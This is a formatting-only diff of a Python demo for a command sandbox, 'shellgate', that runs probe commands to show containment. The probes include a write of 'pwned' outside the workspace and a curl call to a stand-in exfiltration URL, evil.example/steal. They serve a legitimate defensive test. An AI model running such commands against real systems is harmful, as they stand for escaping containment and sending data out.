@@ -33,10 +33,16 @@ COMMANDS = [
 ]
 
 SANDBOXED = [
-    ("a write outside the workspace is held by the sandbox",
-     "workspace-write", "echo pwned > {outside} && echo WROTE || echo 'write refused'"),
-    ("a network call to a domain that is not allowed gets a 403 from the proxy",
-     "networked", "curl -sS -m 10 http://evil.example/steal || true"),
+    (
+        "a write outside the workspace is held by the sandbox",
+        "workspace-write",
+        "echo pwned > {outside} && echo WROTE || echo 'write refused'",
+    ),
+    (
+        "a network call to a domain that is not allowed gets a 403 from the proxy",
+        "networked",
+        "curl -sS -m 10 http://evil.example/steal || true",
+    ),
 ]
 
 
@@ -57,8 +63,9 @@ def sandbox_part(console: Console) -> None:
     if not sandbox_works(probes):
         for p in probes:
             if p.required and not p.ok:
-                console.print(Text(f"sandbox unavailable here: {p.name}: {p.detail} ({p.fix})",
-                                   style="red"))
+                console.print(
+                    Text(f"sandbox unavailable here: {p.name}: {p.detail} ({p.fix})", style="red")
+                )
         return
     # Not under /tmp: the sandbox has its own /tmp, so a write there would
     # land in the private one; /var/tmp is the host's, read-only inside.
@@ -70,19 +77,25 @@ def sandbox_part(console: Console) -> None:
         for title, profile, script in SANDBOXED:
             command = script.format(outside=outside)
             console.print(Rule(title, style="dim"))
-            console.print(Text(f"$ shellgate run --profile {profile} -- sh -c {command!r}",
-                               style="bold"))
+            console.print(
+                Text(f"$ shellgate run --profile {profile} -- sh -c {command!r}", style="bold")
+            )
             try:
-                result = run(["sh", "-c", command], load_profile(profile), cwd=str(workspace),
-                             timeout=30)
+                result = run(
+                    ["sh", "-c", command], load_profile(profile), cwd=str(workspace), timeout=30
+                )
             except SandboxError as exc:
                 console.print(Text(f"sandbox unavailable: {exc}", style="red"))
                 continue
             console.print(Text(result.stdout + result.stderr, style="cyan"))
             if profile == "workspace-write":
                 held = not outside.exists()
-                console.print(Text(f"on the host, {outside} exists: {not held}",
-                                   style="green" if held else "bold red"))
+                console.print(
+                    Text(
+                        f"on the host, {outside} exists: {not held}",
+                        style="green" if held else "bold red",
+                    )
+                )
         console.print()
     finally:
         shutil.rmtree(base, ignore_errors=True)
